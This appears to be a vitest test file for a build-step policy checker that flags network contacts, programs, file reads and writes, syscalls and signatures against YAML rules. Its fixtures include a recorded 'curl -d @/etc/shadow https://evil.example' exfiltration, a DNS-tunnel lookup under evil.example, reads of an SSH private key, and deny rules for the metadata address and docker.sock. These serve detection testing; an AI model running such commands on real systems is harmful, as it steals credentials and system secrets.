// SPDX-License-Identifier: Apache-2.0
import { parsePolicy } from "@bob/bill/policy/read-policy";
import type { StepFacts, StepFactsRecord } from "@bob/bill/policy/step-facts";
import { connectionTo, questionFor, requestTo } from "@bob/bill/test-support/network-fixture";
import { makeFiles, makeProcess, makeStepRecord } from "@bob/bill/test-support/step-record-fixture";
import type { NetworkEntry, NetworkName, StepRecord } from "@bob/proto";
import { describe, expect, test } from "vitest";
import { decidePolicies } from "./decide-policies.ts";

const signer = `SHA256:${"A".repeat(43)}`;
const finishedAt = Date.parse("2026-11-21T09:00:01.250Z");
const oneDay = 86_400_000;

const recorded = (changes: Partial<StepRecord> = {}): StepFactsRecord => ({
  status: "recorded",
  record: makeStepRecord("npm ci", changes),
  signer: { fingerprint: signer, recorder: "builder-1" },
});
const step = (record: StepFactsRecord = recorded(), changes: Partial<StepFacts> = {}): StepFacts => ({
  number: 5,
  place: "step 5 (RUN npm ci, line 5)",
  command: "npm ci",
  stage: "build",
  lines: [{ start: 5, end: 6 }],
  record,
  ...changes,
});

const decide = (text: string, ...steps: StepFacts[]) =>
  decidePolicies({ list: [parsePolicy(`policy: bob/v1\n${text}\n`, "p.yaml")], now: finishedAt + oneDay }, steps);
/** The messages of findings, without what is said of programs. */
const told = (text: string, ...steps: StepFacts[]) =>
  decide(text, ...steps).findings.map(({ message }) => message.split(";")[0]);
const network = (...entries: NetworkEntry[]) => step(recorded({ network: entries }));
const named = (name: string, ...from: NetworkName["from"]): NetworkName => ({ name, from });
const answer = (name: string, data: string) => [{ name, type: "A", data }];

/** A name that was looked up at 10.0.0.2, and the connection to its address. */
const lookedUp = (name: string, address: string, server = "10.0.0.2"): NetworkEntry[] => [
  connectionTo(server, { operation: "send", protocol: "udp", port: 53 }),
  questionFor(name, { address: server, answers: answer(name, address) }),
  connectionTo(address, { names: [named(name, "dns", "sni")] }),
];

describe("the network", () => {
  const onlyNpm = "network: {allow: ['registry.npmjs.org:443/tcp']}";

  test("a name is allowed where a name server that is believed gave the step its address", () => {
    expect(told(onlyNpm, network(...lookedUp("registry.npmjs.org", "104.16.0.1")))).toEqual([]);
    expect(
      told(onlyNpm.replace("registry", "Registry"), network(...lookedUp("registry.npmjs.org", "104.16.0.1"))),
    ).toEqual([]);
  });

  test("what a step only says of an address does not allow it", () => {
    const [, , contact] = lookedUp("registry.npmjs.org", "203.0.113.9");
    const claimed = { ...contact, names: [named("registry.npmjs.org", "sni")] } as NetworkEntry;
    expect(told(onlyNpm, network(claimed))).toEqual([
      'contacted 203.0.113.9:443/tcp, called registry.npmjs.org (sni): "for all steps" does not allow it (p.yaml:2:10)',
    ]);
    expect(told("network: {allow: [{host: registry.npmjs.org, known: [sni]}]}", network(claimed))).toEqual([]);
  });

  test("nor does the answer of a server that nobody named, or of the step itself", () => {
    const foreign = lookedUp("registry.npmjs.org", "203.0.113.9", "198.51.100.53");
    expect(told(onlyNpm, network(...foreign))).toEqual([
      expect.stringContaining("contacted 198.51.100.53:53/udp"),
      expect.stringContaining("contacted 203.0.113.9:443/tcp"),
    ]);
    expect(told("network: {nameServers: [198.51.100.53], allow: [registry.npmjs.org]}", network(...foreign))).toEqual(
      [],
    );
    const served = { ...questionFor("registry.npmjs.org", { address: "127.0.0.1" }) };
    delete (served as { port?: number }).port;
    const own = lookedUp("registry.npmjs.org", "203.0.113.9", "127.0.0.1");
    expect(told(onlyNpm, network(...own))).toEqual([]);
    expect(told(onlyNpm, network(...own, served))).toEqual([expect.stringContaining("who answered is not known")]);
    const bound = connectionTo("0.0.0.0", { operation: "bind", protocol: "udp", port: 53 });
    expect(told(onlyNpm, network(...own, bound))).toEqual([expect.stringContaining("contacted 203.0.113.9:443/tcp")]);
  });

  test("an answer with another address does not count", () => {
    const [send, , contact] = lookedUp("registry.npmjs.org", "203.0.113.9");
    const question = questionFor("registry.npmjs.org", { answers: answer("registry.npmjs.org", "104.16.0.1") });
    const entries = [send, question, contact].flatMap((entry) => entry ?? []);
    expect(told(onlyNpm, network(...entries))).toEqual([expect.stringContaining("contacted 203.0.113.9:443/tcp")]);
  });

  test("names that are asked for have to be allowed, whoever is asked: they can carry data out", () => {
    const tunnel = questionFor("c2VjcmV0.evil.example", { results: ["NXDOMAIN"] });
    expect(told(onlyNpm, network(tunnel))).toEqual([
      'asked 10.0.0.2 for c2VjcmV0.evil.example (A): "for all steps" does not allow it (p.yaml:2:10)',
    ]);
    expect(told("network: {allow: [{lookup: '*.evil.example'}]}", network(tunnel))).toEqual([]);
    expect(told("network: {allow: ['10.0.0.2:53']}", network(tunnel))).toEqual([]);
  });

  test("addresses hold whatever a step calls them", () => {
    const to = (address: string, port = 443) => network(connectionTo(address, { port }));
    expect(told("network: {allow: ['104.16.0.0/12:443/tcp']}", to("104.20.1.1"))).toEqual([]);
    expect(told("network: {allow: ['104.16.0.0/12:443/tcp']}", to("::ffff:104.20.1.1"))).toEqual([]);
    expect(told("network: {allow: ['104.16.0.0/12:443/tcp']}", to("104.20.1.1", 80))).toHaveLength(1);
    expect(told("network: {deny: [169.254.169.254]}", to("169.254.169.254", 80))).toEqual([
      'contacted 169.254.169.254:80/tcp, which it called by no name: "for all steps" forbids it (p.yaml:2:18: 169.254.169.254)',
    ]);
    expect(told("network: {allow: [loopback]}", to("127.0.0.9", 9), to("10.0.0.9"))).toHaveLength(1);
  });

  test("a forbidden name is forbidden however it is known: looked up, asked for, or through a proxy", () => {
    const deny = "network: {deny: ['*.evil.example']}";
    expect(told(deny, network(questionFor("a.evil.example")))).toHaveLength(1);
    expect(told(deny, network(connectionTo("203.0.113.9", { names: [named("a.evil.example", "sni")] })))).toHaveLength(
      1,
    );
    const proxied = requestTo("10.0.0.8", { method: "CONNECT", host: "A.evil.example:443" }, { port: 3128 });
    expect(told(deny, network(proxied))).toEqual([
      expect.stringContaining("asked 10.0.0.8 for a.evil.example by HTTP CONNECT"),
    ]);
  });

  test("attempts count, but for datagram connects that send nothing; and sockets that have no addresses", () => {
    expect(
      told("network: {allow: []}", network(connectionTo("203.0.113.9", { results: ["ECONNREFUSED"] }))),
    ).toHaveLength(1);
    expect(told("network: {allow: []}", network(connectionTo("203.0.113.9", { protocol: "udp", port: 0 })))).toEqual(
      [],
    );
    const packet = network({ operation: "bind", family: "packet", protocol: "raw", results: ["ok"], count: 1 });
    const netlink = network({ operation: "send", family: "netlink", protocol: "raw", results: ["ok"], count: 1 });
    expect(told("network: {allow: []}", packet, netlink)).toEqual([expect.stringContaining("family packet")]);
    expect(told("network: {deny: [{family: netlink}]}", packet, netlink)).toEqual([
      expect.stringContaining("family netlink"),
    ]);
    expect(told("network: {allow: ['*']}", packet)).toEqual([]);
  });

  test("listeners and unix sockets have sections of their own", () => {
    const listening = (address: string, port: number) => network(connectionTo(address, { operation: "listen", port }));
    expect(told("listen: {allow: [loopback]}", listening("127.0.0.1", 8080), listening("0.0.0.0", 8080))).toEqual([
      'listened on 0.0.0.0:8080/tcp: "for all steps" does not allow it (p.yaml:2:9)',
    ]);
    expect(told("listen: {deny: [':8080']}", listening("::", 8080), listening("::", 80))).toHaveLength(1);
    const socket = (path: string, result = "ok") =>
      network({ operation: "connect", family: "unix", protocol: "stream", path, results: [result], count: 1 });
    const deny = "sockets: {deny: [/run/docker.sock, '@x']}";
    expect(told(deny, socket("/run/docker.sock"), socket("/run/docker.sock", "ENOENT"), socket("@x"))).toHaveLength(2);
  });
});

describe("programs", () => {
  const processes = [
    makeProcess("/usr/bin/dash", ["/bin/sh", "-c", "npm ci"]),
    makeProcess("/usr/local/bin/node", ["node", "/usr/local/bin/npm", "ci"], [0]),
    makeProcess("/usr/bin/dash", ["sh", "-c", "node install.mjs"], [1]),
    makeProcess("/usr/bin/curl", ["curl", "-d", "@/etc/shadow", "https://evil.example"], [2]),
  ];
  const npm = step(recorded({ processes }));

  test("a finding names the rule, its place, the program and the programs that led to it", () => {
    const { findings } = decide("rules:\n  - name: no curl\n    steps: npm *\n    programs:\n      deny: [curl]", npm);
    expect(findings).toEqual([
      {
        kind: "policy",
        step: 5,
        place: "step 5 (RUN npm ci, line 5)",
        message:
          'ran curl -d @/etc/shadow https://evil.example: "no curl" forbids it (p.yaml:6:14: curl); run as sh (/usr/bin/dash) -c "npm ci" → node /usr/local/bin/npm ci → sh (/usr/bin/dash) -c "node install.mjs" → curl -d @/etc/shadow https://evil.example',
        policy: {
          file: "p.yaml",
          line: 6,
          column: 14,
          rule: "no curl",
          surface: "programs",
          decidedBy: "deny",
          entry: "curl",
          event: {
            kind: "program",
            path: "/usr/bin/curl",
            args: ["curl", "-d", "@/etc/shadow", "https://evil.example"],
          },
          programs: expect.arrayContaining(["node /usr/local/bin/npm ci"]),
        },
      },
    ]);
  });

  test("are told by path, name, arguments, and what started them", () => {
    expect(told("programs: {allow: [/usr/bin/⋯, /usr/local/bin/node]}", npm)).toEqual([]);
    expect(told("programs: {allow: [dash, node]}", npm)).toHaveLength(1);
    expect(told("programs: {deny: [{path: curl, args: [curl, -d, ......]}]}", npm)).toHaveLength(1);
    expect(told("programs: {deny: [{path: curl, args: [curl, -o, ......]}]}", npm)).toEqual([]);
    expect(told("programs: {deny: [{path: dash, startedBy: node}]}", npm)).toHaveLength(1);
    expect(told("programs: {deny: [{path: '*', startedBy: /usr/local/⋯/node}]}", npm)).toHaveLength(2);
  });

  test("a name that a program only calls itself allows nothing, and is forbidden", () => {
    const busybox = step(recorded({ processes: [makeProcess("/bin/busybox", ["wget", "x"])] }));
    expect(told("programs: {deny: [wget]}", busybox)).toHaveLength(1);
    expect(told("programs: {allow: [wget]}", busybox)).toHaveLength(1);
  });

  test("programs that started each other in a circle are told once", () => {
    const circle = [makeProcess("/bin/a", ["a"], [1]), makeProcess("/bin/b", ["b"], [0])];
    expect(told("programs: {deny: [{path: a, startedBy: b}]}", step(recorded({ processes: circle })))).toHaveLength(1);
  });
});

describe("files", () => {
  const files = makeFiles({ "/etc": ["passwd"], "/root/.ssh": ["id_ed25519"], "/app": ["a.js!"] });

  test("what was read and what was written are two things", () => {
    expect(told("reads: {deny: [/root/.ssh/*]}", step(recorded({ files })))).toEqual([
      'read /root/.ssh/id_ed25519: "for all steps" forbids it (p.yaml:2:16: /root/.ssh/*)',
    ]);
    expect(told("writes: {deny: [/root/.ssh/*]}", step(recorded({ files })))).toEqual([]);
    expect(told("writes: {allow: [/srv/*]}", step(recorded({ files })))).toEqual([
      expect.stringContaining("wrote (created) /app/a.js"),
    ]);
  });

  test("changes by path and what was left behind are writes, of both names", () => {
    const changes: StepRecord["changes"] = [
      { operation: "rename", path: "/b", from: "/etc/shadow", results: ["ok"], count: 1 },
      { operation: "mkdir", path: "/etc/x", results: ["EEXIST"], count: 1 },
      { operation: "unlink", path: "/etc/y", results: ["EPERM"], count: 1 },
    ];
    const leftBehind: StepRecord["leftBehind"] = [{ path: "/etc/cron.d", type: "directory", mode: "0755" }];
    expect(told("writes: {deny: [/etc/*]}", step(recorded({ changes, leftBehind })))).toEqual([
      expect.stringContaining("wrote (left behind) /etc/cron.d"),
      expect.stringContaining("wrote (rename) /etc/shadow"),
      expect.stringContaining("tried to write (EPERM) /etc/y"),
    ]);
    expect(told("writes: {allow: [/b, /etc/cron.d]}", step(recorded({ changes, leftBehind })))).toEqual([
      expect.stringContaining("/etc/shadow"),
    ]);
  });

  test("a name of a file is no wildcard, and what was seen from another namespace is allowed by * alone", () => {
    const star = step(recorded({ files: makeFiles({ "/tmp": ["*", "⋯"] }) }));
    expect(told("reads: {allow: [/tmp/other]}", star)).toHaveLength(2);
    expect(told("reads: {deny: ['/tmp/\\x2a']}", star)).toHaveLength(1);
    const foreign = makeFiles({ "/app": ["x"] });
    const entries = foreign.directories.map(({ path, entries }) => ({
      path,
      entries: entries.map((entry) => ({ ...entry, foreign: true as const })),
    }));
    const seen = step(recorded({ files: { ...foreign, directories: entries } }));
    expect(told("reads: {allow: [/app/*]}", seen)).toEqual([expect.stringContaining("mount namespace of its own")]);
    expect(told("reads: {allow: ['*']}", seen)).toEqual([]);
  });

  test("many findings of one entry are counted", () => {
    const many = makeFiles({
      "/etc": Array.from({ length: 1_500 }, (_, index) => `f${String(index).padStart(4, "0")}`),
    });
    const messages = told("reads: {deny: [/etc/*]}", step(recorded({ files: many })));
    expect(messages).toHaveLength(11);
    expect(messages.at(-1)).toBe('and 1,490 more in reads: "for all steps" forbids it (p.yaml:2:16: /etc/*)');
  });
});

test("system calls and capabilities go by name", () => {
  const changes = {
    syscalls: { x86_64: ["bpf", "read"] },
    capabilities: { used: ["CAP_SYS_ADMIN"], denied: ["CAP_BPF"] },
  };
  expect(told("syscalls: {deny: [bpf]}", step(recorded(changes)))).toEqual([expect.stringContaining("bpf (x86_64)")]);
  expect(told("syscalls: {allow: [read]}", step(recorded(changes)))).toHaveLength(1);
  expect(told("capabilities: {deny: [SYS_ADMIN, CAP_BPF]}", step(recorded(changes)))).toEqual([
    expect.stringContaining("used the capability SYS_ADMIN"),
  ]);
});

describe("rules", () => {
  const reading = (file: string, changes: Partial<StepFacts> = {}) =>
    step(recorded({ files: makeFiles({ "/etc": [file] }) }), changes);

  test("are about the steps they name", () => {
    const rule = (steps: string) => `rules: [{steps: ${steps}, reads: {deny: ['*']}}]`;
    for (const steps of [
      "npm ci",
      "npm *",
      "{stage: build}",
      "{lines: 6}",
      "{lines: 1-5}",
      "[make, {stage: build, lines: 5}]",
    ])
      expect([steps, told(rule(steps), reading("passwd"))]).toEqual([steps, [expect.any(String)]]);
    for (const steps of ["npm", "{stage: test}", "{lines: 7}", "[make, {stage: build, lines: 7}]"]) {
      const { findings, verdicts } = decide(rule(steps), reading("passwd"));
      expect([steps, findings]).toEqual([steps, []]);
      expect(verdicts[0]?.warnings).toEqual([
        expect.stringContaining('p.yaml:2:9: "rule 1" is about no step of this build'),
      ]);
    }
  });

  test("add to each other what they allow, and none allows what another forbids", () => {
    const policy =
      "reads: {allow: [/etc/passwd]}\nrules: [{steps: npm ci, reads: {allow: [/etc/group], deny: [/etc/passwd]}}]";
    expect(told(policy, reading("group"))).toEqual([]);
    expect(told(policy, reading("passwd"))).toEqual([expect.stringContaining('"rule 1" forbids it')]);
    expect(told(policy, reading("group", { command: "make" }))).toEqual([expect.stringContaining("does not allow it")]);
  });

  test("of several policies all have to hold", () => {
    const list = ["[/etc/passwd]", "[/etc/group]"].map((allow, index) =>
      parsePolicy(`policy: bob/v1\nreads: {allow: ${allow}}\n`, `${index}.yaml`),
    );
    const { verdicts } = decidePolicies({ list, now: finishedAt }, [reading("passwd")]);
    expect(verdicts.map(({ holds }) => holds)).toEqual([true, false]);
  });
});

describe("requirements", () => {
  const unrecorded = step({ status: "unrecorded", reason: "no-recorder" });
  const incomplete = step(
    recorded({ completeness: { complete: false, lost: { net: 1 }, truncated: {}, bypasses: [] } }),
  );

  test("a step that is not recorded, incomplete or replayed is refused unless the policy excuses it", () => {
    const replayed = step({ ...recorded(), status: "replayed" } as StepFactsRecord);
    expect(told("name: x", unrecorded)).toEqual([expect.stringContaining("nobody recorded it (no-recorder)")]);
    expect(told("name: x", incomplete)).toEqual([expect.stringContaining("its record is incomplete")]);
    expect(told("name: x", replayed)).toEqual([expect.stringContaining("of a later run")]);
    const excuse = "require: {recorded: false, complete: false, original: false}";
    expect(told(excuse, unrecorded, incomplete, replayed)).toEqual([]);
    expect(told(`${excuse}\nrules: [{steps: npm ci, require: {complete: true}}]`, incomplete)).toEqual([
      expect.stringContaining('"rule 1" requires complete (p.yaml:3:34)'),
    ]);
  });

  test("a record without a good signature is excused by nothing", () => {
    expect(told("require: {recorded: false}", step({ status: "unsigned", reason: "" }))).toEqual([
      expect.stringContaining("no signature of a key that was given"),
    ]);
    expect(
      told("require: {recorded: false}", step({ status: "unreadable", reason: "part x is not attached" })),
    ).toHaveLength(1);
  });

  test("what was not watched cannot be decided about", () => {
    const record = makeStepRecord("npm ci");
    const blind = { ...record.recorder, coverage: { ...record.recorder.coverage, network: "none" as const } };
    expect(told("network: {deny: [a.b]}", step(recorded({ recorder: blind })))).toEqual([
      expect.stringContaining("did not watch what rules are about: network"),
    ]);
    expect(told("reads: {deny: [/x]}", step(recorded({ recorder: blind })))).toEqual([]);
  });

  test("age, signers, and that layers were compared", () => {
    expect(told("require: {maxAge: 2d}", step())).toEqual([]);
    expect(told("require: {maxAge: 12h}", step())).toEqual([expect.stringContaining("longer ago than 12h")]);
    const future = recorded({
      execution: { ...makeStepRecord("x").execution, finishedAt: "2027-11-21T09:00:00.000Z" },
    });
    expect(told("require: {maxAge: 2d}", step(future))).toEqual([expect.stringContaining("still to come")]);
    expect(told(`require: {signers: [${signer}]}`, step())).toEqual([]);
    expect(told("require: {signers: [builder-1]}", step())).toEqual([]);
    expect(told(`require: {signers: ['SHA256:${"B".repeat(43)}', builder-2]}`, step())).toEqual([
      expect.stringContaining(`signed by builder-1 (${signer}), none of the signers`),
    ]);
    expect(told("require: {compared: true}", step())).toEqual([expect.stringContaining("was not compared")]);
    expect(told("require: {compared: true}", step({ ...recorded(), isCompared: true } as StepFactsRecord))).toEqual([]);
  });
});

test("an empty list of programs and one program are told apart from many", () => {
  const contact = [connectionTo("203.0.113.9")];
  const [one] = decide("network: {allow: []}", step(recorded({ network: contact }))).findings;
  expect(one?.message).toMatch(/; by sh \(\/usr\/bin\/dash\) -c "npm ci"$/);
  const processes = [makeProcess("/a", ["a"]), makeProcess("/b", ["b"], [0])];
  const [many] = decide("network: {allow: []}", step(recorded({ network: contact, processes }))).findings;
  expect(many?.message).toMatch(/; by one of the step's 2 programs, the record does not tell which$/);
  expect(many?.policy).toMatchObject({ candidates: ["a", "b"], programCount: 2 });
});
